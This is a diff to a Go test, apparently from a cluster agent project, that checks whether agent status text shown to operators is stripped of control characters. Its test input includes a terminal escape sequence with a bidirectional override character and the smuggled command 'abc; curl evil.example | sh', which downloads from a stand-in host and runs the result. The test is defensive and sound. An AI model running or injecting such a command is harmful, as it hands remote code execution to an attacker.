@@ -9,11 +9,11 @@ import (
 	"orrery.dev/orrery/internal/protocol/wire"
 )
 
-// TestAgentStatusIsPlain: what an agent says of itself is shown to operators, who copy
-// commands from it.
+// TestAgentStatusIsPlain: operators see the texts of an agent and copy commands from them, so these
+// contain no control characters.
 func TestAgentStatusIsPlain(t *testing.T) {
 	const escape, command = "\x1b[2Jall is well\u202e", "abc; curl evil.example | sh"
-	said := &wire.AgentStatus{
+	reported := &wire.AgentStatus{
 		Version: escape, Hub: escape, Trusts: []string{escape}, KubernetesVersion: escape, APIsDigest: escape, Halted: strings.Repeat(escape, 1000),
 		Lineage: escape, Awaits: escape, Purge: &wire.PurgeStatus{Objects: []string{escape}},
 		Prune: &wire.PruneStatus{
@@ -22,7 +22,7 @@ func TestAgentStatusIsPlain(t *testing.T) {
 			Placements: []wire.PlacementPrune{{Space: "s", Placement: "p", Digest: "good2"}, {Space: "s", Placement: "p", Digest: command}, {Space: "s", Placement: escape, Digest: "bad3"}},
 		},
 	}
-	got := agentStatus(said, func(s key.Space) bool { return s == "s" })
+	got := agentStatus(reported, func(s key.Space) bool { return s == "s" })
 	text, err := json.Marshal(got)
 	if err != nil {
 		t.Fatal(err)
